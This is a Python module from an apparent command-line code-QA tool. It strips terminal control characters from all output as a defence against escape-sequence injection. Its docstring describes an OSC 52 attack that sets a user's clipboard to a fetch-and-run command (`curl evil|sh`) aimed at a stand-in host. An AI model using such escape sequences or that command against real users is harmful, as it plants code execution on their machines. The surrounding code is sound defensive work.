"""Terminal output without raw control characters.

The CLI prints repository content (search previews, cited code, chunk text) and model output.
Either can carry escape sequences: an OSC 52 sequence (`ESC ] 52 ; c ; <base64> BEL`) sets
the user's clipboard to `curl evil|sh`, other sequences retitle the window, rewrite earlier
lines or hide text. So everything the CLI writes to stdout/stderr passes through
`strip_controls`: C0 controls except newline and tab, DEL and the C1 range (U+0080-U+009F,
8-bit CSI/OSC in some terminals) are removed. The CLI's own progress line is the one writer
allowed a carriage return, through `redraw`.
"""

from __future__ import annotations

from typing import Any, TextIO

from codeqa_lsp.answering.sanitize import strip_controls


class SafeStream:
    """A text stream wrapper whose `write` strips control characters."""

    def __init__(self, stream: TextIO) -> None:
        self.raw_stream = stream

    def write(self, text: str) -> int:
        self.raw_stream.write(strip_controls(text))
        return len(text)

    def __getattr__(self, name: str) -> Any:  # flush, isatty, fileno, encoding, buffer...
        return getattr(self.raw_stream, name)


def redraw(stream: Any, text: str) -> None:
    """Our own progress line: `\\r` + text whose content we control (controls stripped)."""
    raw = getattr(stream, "raw_stream", stream)
    raw.write("\r" + strip_controls(text.lstrip("\r")) + ("\r" if text.endswith("\r") else ""))
